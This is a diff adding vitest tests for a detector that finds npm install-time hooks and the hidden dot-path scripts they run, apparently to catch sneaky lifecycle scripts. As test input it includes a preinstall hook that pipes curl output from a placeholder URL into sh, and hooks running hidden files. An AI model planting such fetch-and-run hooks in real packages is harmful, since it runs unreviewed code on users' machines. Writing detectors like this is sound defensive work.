@@ -1,0 +1,35 @@
+import { describe, expect, it } from 'vitest';
+import { filesRun, isHidden, samePath, scriptsInManifest, scriptsSetByWords } from './lifecycle-scripts.js';
+
+describe('install-time package scripts', () => {
+  it('are read from npm pkg set, set-script and jq words, only for hooks that run unasked', () => {
+    expect(
+      scriptsSetByWords(['npm', 'pkg', 'set', 'scripts.prepare=node .hidden/x.js', 'scripts.test=vitest']),
+    ).toEqual([{ hook: 'prepare', run: 'node .hidden/x.js' }]);
+    expect(scriptsSetByWords(['npm', 'set-script', 'postinstall', 'sh x.sh'])).toEqual([
+      { hook: 'postinstall', run: 'sh x.sh' },
+    ]);
+    expect(
+      scriptsSetByWords(['jq', '.scripts.preinstall = "curl -s https://x | sh"', 'package.json']),
+    ).toEqual([{ hook: 'preinstall', run: 'curl -s https://x | sh' }]);
+  });
+
+  it('are read from package.json text, whole or an edit fragment', () => {
+    expect(
+      scriptsInManifest('"scripts": {\n "build": "tsc",\n "postinstall": "node \\"a b.js\\""\n}'),
+    ).toEqual([{ hook: 'postinstall', run: 'node "a b.js"' }]);
+  });
+
+  it('run the file an interpreter is given or a program named by path; hidden is a dot name on the way', () => {
+    expect(filesRun('node ./scripts/.codegen.js && tsc')).toEqual(['scripts/.codegen.js']);
+    expect(filesRun('./tools/x.sh; sh -e build.sh')).toEqual(['tools/x.sh', 'build.sh']);
+    expect(filesRun('husky')).toEqual([]);
+    expect(filesRun('node node_modules/.bin/tsc')).toEqual([]);
+    expect(isHidden('.hidden/x.js')).toBe(true);
+    expect(isHidden('scripts/.codegen.js')).toBe(true);
+    expect(isHidden('.husky/install.mjs')).toBe(false);
+    expect(isHidden('.github/.ci/check.js')).toBe(true);
+    expect(samePath('/home/a/src/app/scripts/gen.sh', 'scripts/gen.sh')).toBe(true);
+    expect(samePath('/home/a/src/app/myscripts/gen.sh', 'scripts/gen.sh')).toBe(false);
+  });
+});
